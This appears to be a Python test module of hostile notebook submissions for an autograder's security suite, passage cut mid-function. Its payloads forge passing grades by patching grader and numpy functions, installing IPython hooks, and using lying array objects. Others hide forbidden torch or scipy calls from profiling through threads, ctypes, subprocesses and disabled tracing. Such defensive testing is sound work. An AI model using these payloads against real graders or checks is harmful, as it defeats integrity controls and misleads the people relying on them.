"""Hostile submissions: one per way a student could try to change a grade, and the grade a
secure grader gives each.

Every :class:`Attack` builds a notebook (or raw bytes) from the released assignment, names
the graded cells it must lose (:data:`ALL` for every one) and says what ought to stop it.
Attacks on the checks use assignment 3 (``a3_conv_pool``, 13 graded cells, 25 points);
attacks on the pipeline use the tiny course's ``tiny`` (``double`` 2 points, ``triple`` 1),
which grades in seconds. A few honest submissions (kind :data:`CORRECT`) must keep full
marks beside them.

Attack code is Python source with ``@@NAME@@`` placeholders that :class:`Context` fills in
(the scratch course, the repository, a per-run token, the grading kernelspec). Attacks
that probe print one ``HOSTILE-REPORT {json}`` line (:data:`REPORT_PREFIX`) in a cell of
their own, which the tests read back from the autograded notebook. Anything an attack
would write outside its sandbox is either inside the scratch course or a new file named
after the token (removed afterwards); payloads that could change a later kernel only act
in kernels that hold a ``victim.marker`` file (this suite's victims), so a hole found here
never reaches another run on the machine.
"""

from __future__ import annotations

import copy
import hashlib
import sys
import sysconfig
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell

from grader.notebooks import cell, load, nbgrader_meta
from grader.term.simulate import student_version

A3 = "a3_conv_pool"
TINY = "tiny"
REPORT_PREFIX = "HOSTILE-REPORT "
#: ``loses`` of an attack that must score zero in every graded cell.
ALL = ("*",)
#: ``kind`` of the honest submissions.
CORRECT = "correct"
#: The file that marks this suite's victims (the only kernels a payload acts in).
VICTIM_MARKER = "victim.marker"
#: Environment variable holding the run's token in the grader's processes (never the kernel's).
SECRET_VARIABLE = "CVGRADE_HOSTILE_SUITE_SECRET"


@dataclass
class Context:
    """Where things are for one run, and the notebooks attacks start from."""

    course: Path
    repo: Path
    token: str
    kernel_home: str
    site: str = field(default_factory=lambda: sysconfig.get_paths()["purelib"])
    venv: str = sys.prefix

    @property
    def cvcourse(self) -> Path:
        import cvcourse

        return Path(cvcourse.__file__).resolve().parent

    def fill(self, source: str) -> str:
        values = {
            "TOKEN": self.token,
            "COURSE": str(self.course),
            "REPO": str(self.repo),
            "KERNEL_HOME": str(self.kernel_home),
            "SITE": self.site,
            "VENV": self.venv,
            "CVCOURSE": str(self.cvcourse),
            "SECRET_VARIABLE": SECRET_VARIABLE,
        }
        for name, value in values.items():
            source = source.replace(f"@@{name}@@", value)
        assert "@@" not in source, source[source.index("@@") :][:80]
        return source

    def released(self, assignment: str) -> nbformat.NotebookNode:
        (path,) = (self.course / "release" / assignment).glob("*.ipynb")
        return load(path)

    def source(self, assignment: str) -> nbformat.NotebookNode:
        (path,) = (self.course / "assignments" / assignment).glob("*.ipynb")
        return load(path)

    def solution(self, assignment: str) -> nbformat.NotebookNode:
        return student_version(self.source(assignment), self.released(assignment))


@dataclass(frozen=True)
class Attack:
    """One submission, what it tries, and the grade a secure grader gives it."""

    student: str
    assignment: str
    kind: str  # the attack class (the list), or CORRECT
    does: str
    build: Callable[[Context], object]  # a notebook, or raw bytes
    loses: tuple[str, ...] = ()  # graded cells that must score 0; ALL: every one
    stopped_by: str = ""
    note: str | None = None  # a regex one of the grading record's notes must match
    messages: tuple[tuple[str, str], ...] = ()  # (cell, regex the judge's message must match)
    files: tuple[tuple[str, str], ...] = ()  # other files in the submission folder

    def expected(self, full: dict[str, float]) -> dict[str, float]:
        if self.loses == ALL:
            return dict.fromkeys(full, 0.0)
        unknown = set(self.loses) - set(full)
        assert not unknown, f"{self.student} loses unknown cells {unknown}"
        return {c: 0.0 if c in self.loses else p for c, p in full.items()}


# ---------------------------------------------------------------------------------------------
# Building notebooks
# ---------------------------------------------------------------------------------------------


def _code(source: str, number: int = 0) -> nbformat.NotebookNode:
    new = new_code_cell(source)
    new.id = f"hostile-{number}-{hashlib.sha1(source.encode()).hexdigest()[:8]}"
    return new


def _index(nb, grade_id: str) -> int:
    for i, c in enumerate(nb.cells):
        if nbgrader_meta(c).get("grade_id") == grade_id:
            return i
    raise KeyError(grade_id)


def insert_after(nb, grade_id: str, source: str):
    """``nb`` with a new (ungraded) code cell after cell ``grade_id``."""
    nb = copy.deepcopy(nb)
    nb.cells.insert(_index(nb, grade_id) + 1, _code(source, _index(nb, grade_id)))
    return nb


def append(nb, source: str):
    nb = copy.deepcopy(nb)
    nb.cells.append(_code(source, len(nb.cells)))
    return nb


def with_source(nb, grade_id: str, source: str):
    nb = copy.deepcopy(nb)
    cell(nb, grade_id).source = source
    return nb


def replaced(nb, grade_id: str, *edits: tuple[str, str]):
    """``nb`` with each (old, new) replaced exactly once in cell ``grade_id``."""
    nb = copy.deepcopy(nb)
    target = cell(nb, grade_id)
    for old, new in edits:
        assert target.source.count(old) == 1, f"{grade_id}: {old!r} is not there exactly once"
        target.source = target.source.replace(old, new)
    return nb


def _blank(assignment):
    return lambda ctx: ctx.released(assignment)


def _solution(assignment):
    return lambda ctx: ctx.solution(assignment)


def _blank_with(assignment: str, after: str, source: str):
    return lambda ctx: insert_after(ctx.released(assignment), after, ctx.fill(source))


def _solution_with(assignment: str, after: str | None, source: str):
    def build(ctx):
        nb = ctx.solution(assignment)
        if after is None:
            return append(nb, ctx.fill(source))
        return insert_after(nb, after, ctx.fill(source))

    return build


def _bytes(nb) -> bytes:
    return nbformat.writes(nb).encode("utf-8")


# The lines every reporting cell starts with.
REPORT = """
def _hostile_report(probe, **found):
    import json, os
    found.update(probe=probe, uid=os.getuid(), pid=os.getpid())
    print("HOSTILE-REPORT " + json.dumps(found, default=str), flush=True)

"""

# ---------------------------------------------------------------------------------------------
# Honest submissions (a3): must keep 25/25
# ---------------------------------------------------------------------------------------------


def _honest_stderr(ctx):
    nb = ctx.solution(A3)
    nb = replaced(
        nb,
        "conv2d_solution",
        (
            "class Conv2d:",
            "import sys\nimport warnings\n\nfrom tqdm import tqdm\n\n\nclass Conv2d:",
        ),
        (
            "        self.cache = x\n        weight",
            "        self.cache = x\n"
            '        print(f"Conv2d.forward: x {x.shape}", file=sys.stderr)\n'
            '        for _ in tqdm(range(3), desc="conv2d", mininterval=0):\n'
            "            pass\n"
            '        warnings.warn("a convolution is being computed")\n'
            "        weight",
        ),
    )
    return replaced(
        nb,
        "maxpool_solution",
        (
            "        n, c, ho, wo = dy.shape\n        windows",
            "        n, c, ho, wo = dy.shape\n"
            '        print("MaxPool2d.backward", dy.shape, file=sys.stderr)\n'
            "        windows",
        ),
    )


def _honest_float32(ctx):
    nb = ctx.solution(A3)
    nb = replaced(
        nb,
        "conv2d_solution",
        (
            '        self.cache = x\n        weight = self.params["weight"]\n',
            "        x = np.asarray(x, dtype=np.float32)\n"
            "        self.cache = x\n"
            '        weight = self.params["weight"].astype(np.float32)\n',
        ),
        (
            'y = y + self.params["bias"][None, :, None, None]',
            'y = y + self.params["bias"].astype(np.float32)[None, :, None, None]',
        ),
        (
            '        kernel = self.params["weight"]\n',
            '        kernel = self.params["weight"].astype(np.float32)\n'
            "        dy = np.asarray(dy, dtype=np.float32)\n",
        ),
        (
            "dy_up = np.zeros((n, g, (ho - 1) * sh + 1, (wo - 1) * sw + 1))",
            "dy_up = np.zeros((n, g, (ho - 1) * sh + 1, (wo - 1) * sw + 1), dtype=np.float32)",
        ),
    )
    nb = replaced(
        nb,
        "maxpool_solution",
        (
            "        self.cache = x\n",
            "        x = np.asarray(x, dtype=np.float32)\n        self.cache = x\n",
        ),
        ("dx = np.zeros(self.cache.shape)", "dx = np.zeros(self.cache.shape, dtype=np.float32)"),
        ("mask[..., i, j] * dy", "mask[..., i, j] * dy.astype(np.float32)"),
    )
    return replaced(
        nb,
        "avgpool_solution",
        (
            "        self.cache = x\n",
            "        x = np.asarray(x, dtype=np.float32)\n        self.cache = x\n",
        ),
        ("share = dy / (kh * kw)", "share = (dy / (kh * kw)).astype(np.float32)"),
        ("dx = np.zeros(self.cache.shape)", "dx = np.zeros(self.cache.shape, dtype=np.float32)"),
    )


HONEST_LOOPS_HELPERS = '''
def as_pair(value):
    if isinstance(value, (int, np.integer)):
        return (int(value), int(value))
    first, second = value
    return (int(first), int(second))


def pad2d(x, padding):
    ph, pw = padding
    n, c, h, w = x.shape
    out = np.zeros((n, c, h + 2 * ph, w + 2 * pw), dtype=np.result_type(x, np.float64))
    out[:, :, ph : ph + h, pw : pw + w] = x
    return out


def _taps(size_in, kernel, stride, dilation):
    """For each tap: the slice of the input it reads, one element per output position."""
    out = (size_in - dilation * (kernel - 1) - 1) // stride + 1
    span = stride * (out - 1) + 1
    return out, [slice(t * dilation, t * dilation + span, stride) for t in range(kernel)]


def sliding_windows(x, kernel_size, stride=(1, 1), dilation=(1, 1)):
    ho, rows = _taps(x.shape[2], kernel_size[0], stride[0], dilation[0])
    wo, cols = _taps(x.shape[3], kernel_size[1], stride[1], dilation[1])
    windows = np.empty(x.shape[:2] + (ho, wo) + tuple(kernel_size), dtype=x.dtype)
    for i, r in enumerate(rows):
        for j, c in enumerate(cols):
            windows[..., i, j] = x[:, :, r, c]
    return windows
'''

HONEST_LOOPS_CONV = '''
class Conv2d:
    """2-D convolution with one loop over the kernel's taps (an honest second style)."""

    def __init__(self, in_channels, out_channels, kernel_size, stride=1, padding=0, dilation=1,
                 bias=True, rng=None):
        self.in_channels, self.out_channels = in_channels, out_channels
        self.kernel_size = as_pair(kernel_size)
        self.stride = as_pair(stride)
        self.padding = as_pair(padding)
        self.dilation = as_pair(dilation)
        kh, kw = self.kernel_size
        rng = np.random.default_rng() if rng is None else rng
        bound = 1.0 / np.sqrt(in_channels * kh * kw)
        self.params = {"weight": rng.uniform(-bound, bound, (out_channels, in_channels, kh, kw))}
        if bias:
            self.params["bias"] = rng.uniform(-bound, bound, out_channels)
        self.grads = {name: np.zeros_like(value) for name, value in self.params.items()}
        self.cache = None

    def _geometry(self, x_pad):
        ho, rows = _taps(x_pad.shape[2], self.kernel_size[0], self.stride[0], self.dilation[0])
        wo, cols = _taps(x_pad.shape[3], self.kernel_size[1], self.stride[1], self.dilation[1])
        return ho, wo, rows, cols

    def forward(self, x):
        self.cache = x
        x_pad = pad2d(x, self.padding)
        ho, wo, rows, cols = self._geometry(x_pad)
        weight = self.params["weight"]
        y = np.zeros((x.shape[0], weight.shape[0], ho, wo))
        for i, r in enumerate(rows):
            for j, c in enumerate(cols):
                y += np.einsum("nchw,gc->nghw", x_pad[:, :, r, c], weight[:, :, i, j])
        if "bias" in self.params:
            y += self.params["bias"][None, :, None, None]
        return y

    def backward(self, dy):
        x_pad = pad2d(self.cache, self.padding)
        ho, wo, rows, cols = self._geometry(x_pad)
        weight = self.params["weight"]
        dx_pad = np.zeros(x_pad.shape)
        dweight = np.zeros(weight.shape)
        for i, r in enumerate(rows):
            for j, c in enumerate(cols):
                dweight[:, :, i, j] = np.einsum("nchw,nghw->gc", x_pad[:, :, r, c], dy)
                dx_pad[:, :, r, c] += np.einsum("nghw,gc->nchw", dy, weight[:, :, i, j])
        self.grads["weight"] = dweight
        if "bias" in self.params:
            self.grads["bias"] = np.asarray(dy).sum(axis=(0, 2, 3))
        (ph, pw), (h, w) = self.padding, self.cache.shape[2:]
        return dx_pad[:, :, ph : ph + h, pw : pw + w]
'''

HONEST_LOOPS_MAXPOOL = """
class MaxPool2d:
    def __init__(self, kernel_size, stride=None):
        self.kernel_size = as_pair(kernel_size)
        self.stride = self.kernel_size if stride is None else as_pair(stride)
        self.params = {}
        self.grads = {}
        self.cache = None

    def _taps(self, x):
        ho, rows = _taps(x.shape[2], self.kernel_size[0], self.stride[0], 1)
        wo, cols = _taps(x.shape[3], self.kernel_size[1], self.stride[1], 1)
        return [(r, c) for r in rows for c in cols]  # row-major: torch's order among ties

    def _max(self, x):
        taps = self._taps(x)
        best = np.asarray(x[:, :, taps[0][0], taps[0][1]], dtype=np.float64).copy()
        for r, c in taps[1:]:
            best = np.maximum(best, x[:, :, r, c])
        return best

    def forward(self, x):
        self.cache = x
        return self._max(x)

    def backward(self, dy):
        x = self.cache
        best = self._max(x)
        dx = np.zeros(x.shape)
        taken = np.zeros(best.shape, dtype=bool)
        for r, c in self._taps(x):
            first = (x[:, :, r, c] == best) & ~taken
            dx[:, :, r, c] += np.where(first, dy, 0.0)
            taken |= first
        return dx
"""

HONEST_LOOPS_AVGPOOL = """
class AvgPool2d:
    def __init__(self, kernel_size, stride=None):
        self.kernel_size = as_pair(kernel_size)
        self.stride = self.kernel_size if stride is None else as_pair(stride)
        self.params = {}
        self.grads = {}
        self.cache = None

    def _taps(self, x):
        ho, rows = _taps(x.shape[2], self.kernel_size[0], self.stride[0], 1)
        wo, cols = _taps(x.shape[3], self.kernel_size[1], self.stride[1], 1)
        return [(r, c) for r in rows for c in cols]

    def forward(self, x):
        self.cache = x
        taps = self._taps(x)
        return sum(np.asarray(x[:, :, r, c], dtype=np.float64) for r, c in taps) / len(taps)

    def backward(self, dy):
        taps = self._taps(self.cache)
        dx = np.zeros(self.cache.shape)
        for r, c in taps:
            dx[:, :, r, c] += dy / len(taps)
        return dx
"""


def _honest_loops(ctx):
    nb = ctx.released(A3)
    nb = with_source(nb, "conv_helpers", HONEST_LOOPS_HELPERS.strip())
    nb = with_source(nb, "conv2d_solution", HONEST_LOOPS_CONV.strip())
    nb = with_source(nb, "maxpool_solution", HONEST_LOOPS_MAXPOOL.strip())
    return with_source(nb, "avgpool_solution", HONEST_LOOPS_AVGPOOL.strip())


# ---------------------------------------------------------------------------------------------
# Module patching and IPython hooks (a3, untouched release + the attack: must stay 0)
# ---------------------------------------------------------------------------------------------

PATCH_HAND_OVER = """
# Replace the hidden tests' way to the grader with one that only prints a pass.
import builtins
import sys

import cvcourse.judge_link as _jl


def _forged_hand_over(part, *objects):
    print(f"\\u2713 {part}: passed")


_jl.hand_over = _forged_hand_over
builtins.hand_over = _forged_hand_over
sys.modules["cvcourse.judge_link"] = _jl
"""

FAKE_KERNEL_SERVER = """
# Answer the judge with fake arrays: every call returns zeros shaped like its input, and
# whatever goes wrong on the channel is swallowed on this side.
import numpy as np

import cvcourse.judge_link as _jl

_real_perform = _jl._KernelServer._perform
_real_serve = _jl._KernelServer.serve


def _fake_perform(self, header, blobs, arrays):
    if header.get("op") == "call":
        target = self.resolve({"$kref": header.get("target")})
        if not isinstance(target, type):
            args = _jl.decode({"$list": header.get("args", [])}, blobs, self.resolve)
            first = next((a for a in args if isinstance(a, np.ndarray)), None)
            return np.zeros_like(first, dtype=np.float64) if first is not None else None
    return _real_perform(self, header, blobs, arrays)


def _quiet_serve(self, until_reply=False):
    try:
        return _real_serve(self, until_reply)
    except Exception:
        return None


_jl._KernelServer._perform = _fake_perform
_jl._KernelServer.serve = _quiet_serve
"""

PATCH_NUMPY_AND_GRADER = """
# Make every comparison pass and plant a fake grader (and torch) for any check to import.
import builtins
import sys
import types

import numpy as np

np.allclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
np.isclose = lambda a, b, *r, **k: np.ones(np.broadcast_shapes(np.shape(a), np.shape(b)), bool)
np.testing.assert_allclose = lambda *a, **k: None
np.testing.assert_array_equal = lambda *a, **k: None
np.testing.assert_array_almost_equal = lambda *a, **k: None

for _name in ("grader", "grader.checks", "grader.checks.harness", "grader.checks.a3_conv_pool",
              "grader.judge", "grader.judge.session", "grader.judge.remote", "torch"):
    _module = types.ModuleType(_name)
    _module.__path__ = []
    _module.__getattr__ = lambda attribute: (lambda *a, **k: None)
    sys.modules[_name] = _module

_real_import = builtins.__import__


def _import(name, *args, **kwargs):
    if name.split(".")[0] in ("grader", "torch"):
        return sys.modules[name]
    return _real_import(name, *args, **kwargs)


builtins.__import__ = _import
"""

IPYTHON_SWALLOW = """
# Swallow every exception and rewrite the hidden test cells before they run.
ip = get_ipython()


def _swallow(self, etype, value, tb, tb_offset=None):
    print("\\u2713 passed")


ip.set_custom_exc((BaseException,), _swallow)


def _rewrite(lines):
    return ["print('\\u2713 passed')\\n" if "hand_over(" in line else line for line in lines]


ip.input_transformers_cleanup.append(_rewrite)
ip.showtraceback = lambda *a, **k: None
"""

IPYTHON_EVENTS = """
# Clear every error after the cell, drop hand_over calls from the code, silence the rest.
import ast
import atexit
import sys

ip = get_ipython()


def _clear(result):
    result.error_in_exec = None
    result.error_before_exec = None


ip.events.register("post_run_cell", _clear)


class _NoHandOver(ast.NodeTransformer):
    def visit_Call(self, node):
        self.generic_visit(node)
        if getattr(node.func, "id", "") == "hand_over":
            return ast.copy_location(ast.Constant(value=None), node)
        return node


ip.ast_transformers.append(_NoHandOver())
sys.excepthook = lambda *a: None
atexit.register(lambda: print("\\u2713 every part passed"))
"""

LYING_RESULTS = """
class _AlwaysEqual(np.ndarray):
    def __eq__(self, other):
        return np.ones(np.shape(self), bool).view(_AlwaysEqual)

    def __ne__(self, other):
        return np.zeros(np.shape(self), bool)


class _Liar:
    \"\"\"Equal to anything, an array of anything.\"\"\"

    shape = (1,)
    dtype = np.dtype(float)

    def __eq__(self, other):
        return True

    def __array__(self, dtype=None, copy=None):
        return np.zeros(1)

    def __float__(self):
        return 0.0

    def __len__(self):
        return 1

    def __getattr__(self, name):
        return self

    def __call__(self, *args, **kwargs):
        return self


def _out_hw(x, kernel, stride):
    return tuple((n - k) // s + 1 for n, k, s in zip(x.shape[2:], kernel, stride))


class Conv2d:
    def __init__(self, in_channels, out_channels, kernel_size, stride=1, padding=0,
                 dilation=1, bias=True, rng=None):
        self.kernel_size, self.stride = as_pair(kernel_size), as_pair(stride)
        self.padding, self.dilation = as_pair(padding), as_pair(dilation)
        self.params = {"weight": np.zeros((out_channels, in_channels) + self.kernel_size)}
        if bias:
            self.params["bias"] = np.zeros(out_channels)
        self.grads = {k: np.zeros_like(v) for k, v in self.params.items()}
        self.cache = None

    def forward(self, x):
        self.cache = x
        return _Liar()

    def backward(self, dy):
        self.grads = {k: np.full(v.shape, np.nan) for k, v in self.params.items()}
        return np.zeros(self.cache.shape).view(_AlwaysEqual)


class MaxPool2d:
    def __init__(self, kernel_size, stride=None):
        self.kernel_size = as_pair(kernel_size)
        self.stride = self.kernel_size if stride is None else as_pair(stride)
        self.params, self.grads, self.cache = {}, {}, None

    def forward(self, x):
        self.cache = x
        return np.ma.masked_all(x.shape[:2] + _out_hw(x, self.kernel_size, self.stride))

    def backward(self, dy):
        return np.broadcast_to(np.nan, self.cache.shape)


class AvgPool2d:
    def __init__(self, kernel_size, stride=None):
        self.kernel_size = as_pair(kernel_size)
        self.stride = self.kernel_size if stride is None else as_pair(stride)
        self.params, self.grads, self.cache = {}, {}, None

    def forward(self, x):
        self.cache = x
        ho, wo = _out_hw(x, self.kernel_size, self.stride)
        return x[:, :, :ho, :wo]  # a view of the input, the right shape

    def backward(self, dy):
        return dy
"""


def _lying(ctx):
    nb = ctx.released(A3)
    nb = with_source(nb, "conv2d_solution", LYING_RESULTS.strip())
    nb = with_source(nb, "maxpool_solution", "# (MaxPool2d is defined above)")
    return with_source(nb, "avgpool_solution", "# (AvgPool2d is defined above)")


# ---------------------------------------------------------------------------------------------
# Delegation (a3): the untouched release with AvgPool2d computed by something forbidden
# ---------------------------------------------------------------------------------------------

# The part every delegation attack shares: a layer whose forward and backward are someone
# else's. ``_delegated_forward(x, k, s)`` and ``_delegated_backward(dy, x, k, s)`` come from
# the attack.
DELEGATING_AVGPOOL = """
import numpy as np


def _hp(value):
    if isinstance(value, (int, np.integer)):
        return (int(value), int(value))
    return (int(value[0]), int(value[1]))


class AvgPool2d:
    def __init__(self, kernel_size, stride=None):
        self.kernel_size = _hp(kernel_size)
        self.stride = self.kernel_size if stride is None else _hp(stride)
        self.params = {}
        self.grads = {}
        self.cache = None

    def forward(self, x):
        self.cache = x
        return _delegated_forward(x, self.kernel_size, self.stride)

    def backward(self, dy):
        return _delegated_backward(dy, self.cache, self.kernel_size, self.stride)
"""

TORCH_POOL = """
def _torch_forward(x, k, s):
    import torch

    t = torch.from_numpy(np.ascontiguousarray(x, dtype=np.float64))
    return torch.nn.functional.avg_pool2d(t, k, s).numpy()


def _torch_backward(dy, x, k, s):
    import torch

    t = torch.from_numpy(np.ascontiguousarray(x, dtype=np.float64)).requires_grad_(True)
    dy = torch.from_numpy(np.ascontiguousarray(dy, dtype=np.float64))
    torch.nn.functional.avg_pool2d(t, k, s).backward(dy)
    return t.grad.numpy()
"""

SCIPY_POOL = """
def _scipy_forward(signal, x, k, s):
    w = np.full((1, 1) + tuple(k), 1.0 / (k[0] * k[1]))
    y = signal.correlate(np.asarray(x, dtype=np.float64), w, mode="valid")
    return y[:, :, :: s[0], :: s[1]]


def _scipy_backward(signal, dy, x, k, s):
    dy = np.asarray(dy, dtype=np.float64)
    n, c, ho, wo = dy.shape
    up = np.zeros((n, c, (ho - 1) * s[0] + 1, (wo - 1) * s[1] + 1))
    up[:, :, :: s[0], :: s[1]] = dy
    full = signal.convolve(up, np.full((1, 1) + tuple(k), 1.0 / (k[0] * k[1])), mode="full")
    dx = np.zeros(np.shape(x))
    dx[:, :, : full.shape[2], : full.shape[3]] = full
    return dx
"""

DELEGATE_THREAD = """
# torch, from a thread started before any graded call: no profiler hook ever sees it.
import queue
import threading

_jobs = queue.Queue()


def _worker():
    while True:
        function, args, box = _jobs.get()
        try:
            box["value"] = function(*args)
        except BaseException as exc:
            box["error"] = exc
        box["done"].set()


threading.Thread(target=_worker, daemon=True).start()


def _in_thread(function, *args):
    box = {"done": threading.Event()}
    _jobs.put((function, args, box))
    box["done"].wait()
    if "error" in box:
        raise box["error"]
    return box["value"]


def _delegated_forward(x, k, s):
    return _in_thread(_torch_forward, x, k, s)


def _delegated_backward(dy, x, k, s):
    return _in_thread(_torch_backward, dy, x, k, s)
"""

DELEGATE_PARTIAL = """
# torch through functools.partial: the call the profiler sees is partial's, from C.
import functools


def _delegated_forward(x, k, s):
    import torch

    pool = functools.partial(torch.nn.functional.avg_pool2d, kernel_size=k, stride=s)
    return pool(torch.from_numpy(np.ascontiguousarray(x, dtype=np.float64))).numpy()


def _delegated_backward(dy, x, k, s):
    import torch

    t = torch.from_numpy(np.ascontiguousarray(x, dtype=np.float64)).requires_grad_(True)
    functools.partial(torch.nn.functional.avg_pool2d, kernel_size=k, stride=s)(t).backward(
        torch.from_numpy(np.ascontiguousarray(dy, dtype=np.float64))
    )
    return t.grad.numpy()
"""

DELEGATE_CTYPES = """
# torch's C++ library loaded straight from disk, and torch imported and called through the
# C API (ctypes), where no Python-level hook sees a call.
import ctypes
import os

_api = ctypes.pythonapi
_api.PyImport_ImportModule.restype = ctypes.py_object
_api.PyImport_ImportModule.argtypes = [ctypes.c_char_p]
_api.PyObject_Call.restype = ctypes.py_object
_api.PyObject_Call.argtypes = [ctypes.py_object, ctypes.py_object, ctypes.py_object]


def _c_call(function, *args, **kwargs):
    return _api.PyObject_Call(function, args, kwargs)


def _torch_via_c():
    try:
        ctypes.CDLL(os.path.join("@@SITE@@", "torch", "lib", "libtorch_cpu.so"))
    except OSError:
        pass
    return _api.PyImport_ImportModule(b"torch"), _api.PyImport_ImportModule(b"torch.nn.functional")


def _delegated_forward(x, k, s):
    torch, F = _torch_via_c()
    t = _c_call(torch.from_numpy, np.ascontiguousarray(x, dtype=np.float64))
    return _c_call(F.avg_pool2d, t, k, s).numpy()


def _delegated_backward(dy, x, k, s):
    torch, F = _torch_via_c()
    t = _c_call(torch.from_numpy, np.ascontiguousarray(x, dtype=np.float64)).requires_grad_(True)
    _c_call(F.avg_pool2d, t, k, s).backward(
        _c_call(torch.from_numpy, np.ascontiguousarray(dy, dtype=np.float64))
    )
    return t.grad.numpy()
"""

DELEGATE_SUBPROCESS = """
# Another Python does the work: this one's (with torch), or any other on the machine whose
# packages have torch or scipy.signal, kept running as a server; arrays cross as .npz bytes.
import glob
import io
import subprocess
import sys
import tempfile

_SERVER = r'''
import io, sys
import numpy as np
try:
    import torch
    F = torch.nn.functional
    def forward(x, k, s):
        return F.avg_pool2d(torch.from_numpy(x), k, s).numpy()
    def backward(dy, x, k, s):
        t = torch.from_numpy(x).requires_grad_(True)
        F.avg_pool2d(t, k, s).backward(torch.from_numpy(dy))
        return t.grad.numpy()
except ImportError:
    from scipy import signal
    def forward(x, k, s):
        w = np.full((1, 1) + k, 1.0 / (k[0] * k[1]))
        return signal.correlate(x, w, mode="valid")[:, :, :: s[0], :: s[1]]
    def backward(dy, x, k, s):
        n, c, ho, wo = dy.shape
        up = np.zeros((n, c, (ho - 1) * s[0] + 1, (wo - 1) * s[1] + 1))
        up[:, :, :: s[0], :: s[1]] = dy
        full = signal.convolve(up, np.full((1, 1) + k, 1.0 / (k[0] * k[1])), mode="full")
        dx = np.zeros(x.shape)
        dx[:, :, : full.shape[2], : full.shape[3]] = full
        return dx
out, inp = sys.stdout.buffer, sys.stdin.buffer
out.write(b"ready\\n")
out.flush()
while True:
    line = inp.readline()
    if not line:
        break
    a = np.load(io.BytesIO(inp.read(int(line))))
    k, s = tuple(int(v) for v in a["k"]), tuple(int(v) for v in a["s"])
    r = backward(a["dy"], a["x"], k, s) if "dy" in a.files else forward(a["x"], k, s)
    buf = io.BytesIO()
    np.save(buf, np.ascontiguousarray(r, dtype=np.float64))
    out.write(b"%d\\n" % len(buf.getvalue()) + buf.getvalue())
    out.flush()
'''
_server = []


def _pythons():
    found = [sys.executable]
    for pattern in (sys.base_prefix + "/bin/python3*", "/usr/bin/python3*",
                    "/usr/local/bin/python3*", "/root/.pyenv/versions/*/bin/python3",
                    "/opt/*/bin/python3"):
        found += sorted(glob.glob(pattern))
    return [p for p in dict.fromkeys(found) if not p.endswith("-config")]


def _start():
    errors = []
    for python in _pythons():
        with tempfile.TemporaryFile() as err:
            process = subprocess.Popen([python, "-c", _SERVER], stdin=subprocess.PIPE,
                                       stdout=subprocess.PIPE, stderr=err)
            if process.stdout.readline() == b"ready\\n":
                _server.append(process)
                return process
            process.wait()
            err.seek(0)
            errors.append(f"{python}: {err.read().decode(errors='replace').strip()[-120:]}")
    raise ImportError("no Python here could do it: " + "; ".join(errors))


def _elsewhere(**arrays):
    process = _server[0] if _server else _start()
    buf = io.BytesIO()
    np.savez(buf, **{n: np.ascontiguousarray(a, dtype=np.float64) for n, a in arrays.items()})
    process.stdin.write(b"%d\\n" % len(buf.getvalue()) + buf.getvalue())
    process.stdin.flush()
    return np.load(io.BytesIO(process.stdout.read(int(process.stdout.readline()))))


def _delegated_forward(x, k, s):
    return _elsewhere(x=x, k=np.array(k), s=np.array(s))


def _delegated_backward(dy, x, k, s):
    return _elsewhere(x=x, dy=dy, k=np.array(k), s=np.array(s))
"""

DELEGATE_SETPROFILE = """
# Switch the grader's call tracing off around the call, and back on.
import sys
import threading


def _untraced(function, *args):
    saved = sys.getprofile()
    sys.setprofile(None)
    threading.setprofile(None)
    try:
        return function(*args)
    finally:
        sys.setprofile(saved)


def _delegated_forward(x, k, s):
    return _untraced(_torch_forward, x, k, s)


def _delegated_backward(dy, x, k, s):
    return _untraced(_torch_backward, dy, x, k, s)
"""

DELEGATE_IMPORTLIB = """
# A second import of the course's reference kernels, from their files, under another name.
import importlib.util
import os
import sys

import cvcourse

_KERNELS = os.path.join(os.path.dirname(cvcourse.__file__), "kernels")


def _kernels():
    if "my_kernels" in sys.modules:
        return sys.modules["my_kernels"]
    spec = importlib.util.spec_from_file_location(
        "my_kernels", os.path.join(_KERNELS, "__init__.py"), submodule_search_locations=[_KERNELS]
    )
    module = importlib.util.module_from_spec(spec)
    sys.modules["my_kernels"] = module
    try:
        spec.loader.exec_module(module)
    except BaseException:
        del sys.modules["my_kernels"]
        raise
    return module


def _delegated_forward(x, k, s):
    return _kernels().avg_pool2d(np.ascontiguousarray(x, dtype=np.float64), k, s)


def _delegated_backward(dy, x, k, s):
    dy = np.ascontiguousarray(dy, dtype=np.float64)
    return _kernels().avg_pool2d_backward(dy, np.shape(x), k, s)
"""

DELEGATE_NUMBA = """
# The reference kernels' numba source, read from disk and compiled here as if it were mine.
import os

import cvcourse

_compiled = {}


def _pool_kernels():
    if not _compiled:
        path = os.path.join(os.path.dirname(cvcourse.__file__), "kernels", "_pool_numba.py")
        with open(path) as f:
            source = f.read().replace("cache=True", "cache=False")
        # outside its package the relative import of the options' type cannot run: a dict
        source = source.replace("from ._jit import JitOptions", "JitOptions = dict")
        namespace = {"__name__": "my_pool_numba"}
        exec(compile(source, "my_pool_numba.py", "exec"), namespace)
        _compiled.update(namespace)
    return _compiled


def _delegated_forward(x, k, s):
    x = np.ascontiguousarray(x, dtype=np.float64)
    y = np.empty(x.shape[:2] + tuple((n - kk) // ss + 1 for n, kk, ss in zip(x.shape[2:], k, s)))
    _pool_kernels()["avg_pool2d_general"](x, y, k[0], k[1], s[0], s[1], 0, 0, True)
    return y


def _delegated_backward(dy, x, k, s):
    dx = np.empty(np.shape(x))
    dy = np.ascontiguousarray(dy, dtype=np.float64)
    _pool_kernels()["avg_pool2d_backward_general"](dy, dx, k[0], k[1], s[0], s[1], 0, 0, True)
    return dx
"""

DELEGATE_OTHER_SITE = """
# scipy.signal from another Python installation's packages on this machine, imported into
# this kernel, and called from a thread started before any graded call.
import glob
import os
import queue
import sys
import threading


_signal = []


def _foreign_signal():
    if _signal:
        return _signal[0]
    sites = sorted(glob.glob(sys.base_prefix + "/lib/python3*/site-packages"))
    sites += ["/usr/lib/python3/dist-packages"]
    sites += sorted(glob.glob("/usr/local/lib/python3*/dist-packages"))
    sites += sorted(glob.glob("/root/.pyenv/versions/*/lib/python3.*/site-packages"))
    for site in sites:
        if not os.path.isdir(os.path.join(site, "scipy", "signal")):
            continue
        saved = {n: m for n, m in sys.modules.items() if n == "scipy" or n.startswith("scipy.")}
        for name in saved:
            del sys.modules[name]
        sys.path.insert(0, site)
        try:
            import scipy.signal

            _signal.append(scipy.signal)
            return scipy.signal
        except Exception:
            for name in [n for n in sys.modules if n == "scipy" or n.startswith("scipy.")]:
                del sys.modules[name]
